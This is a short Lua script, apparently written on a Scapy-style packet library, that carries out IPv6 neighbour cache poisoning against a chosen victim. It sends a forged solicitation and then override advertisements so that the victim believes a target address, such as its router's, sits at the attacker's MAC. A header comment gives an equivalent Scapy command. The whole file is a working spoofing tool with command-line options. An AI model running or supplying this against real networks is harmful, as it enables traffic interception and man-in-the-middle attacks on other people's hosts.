-- nd_spoof.lua - neighbour cache poisoning, the IPv6 twin of ARP
-- poisoning: forged neighbour advertisements tell the victim that an
-- address (its router's, say) is at the attacker's MAC.  A forged
-- solicitation from that address first makes sure the victim has an
-- entry to override (Linux ignores an advertisement nobody asked for).
--   Scapy: sendp(Ether()/IPv6(src=target, dst=victim)/ICMPv6ND_NA(tgt=target, R=0, S=0, O=1)
--                /ICMPv6NDOptDstLLAddr(lladdr=my_mac), iface=..., count=...)
local o = require("pkt.cli").parse(arg, "Point the victim's neighbour entry for an address at this host's MAC.", {
  { "iface", "i", "interface to send on (default: the first with IPv6)" },
  { "count", "c", "advertisements to send", default = 3, number = true },
  { "interval", "n", "seconds between them", default = 0.5, number = true },
}, " VICTIM TARGET")

local victim, target = o[1], o[2]
if not (victim and target) then
  io.stderr:write("nd_spoof.lua: give the victim's address and the address to take over\n")
  os.exit(2)
end
local iface = require("pkt.cli").iface(o.iface, "ipv6")
local mac = get_if_hwaddr(iface)
local ns = Ether{src=mac} / IPv6{src=target, dst=victim} / ICMPv6ND_NS{tgt=victim}
  / ICMPv6NDOptSrcLLAddr{lladdr=mac}
local na = Ether{src=mac} / IPv6{src=target, dst=victim} / ICMPv6ND_NA{R=0, S=0, O=1, tgt=target}
  / ICMPv6NDOptDstLLAddr{lladdr=mac}
sendp(ns, {iface=iface, verbose=false})
sendp(na, {iface=iface, count=o.count, inter=o.interval, verbose=false})
print(("told %s that %s is at %s (%d advertisements on %s)"):format(victim, target, mac, o.count, iface))
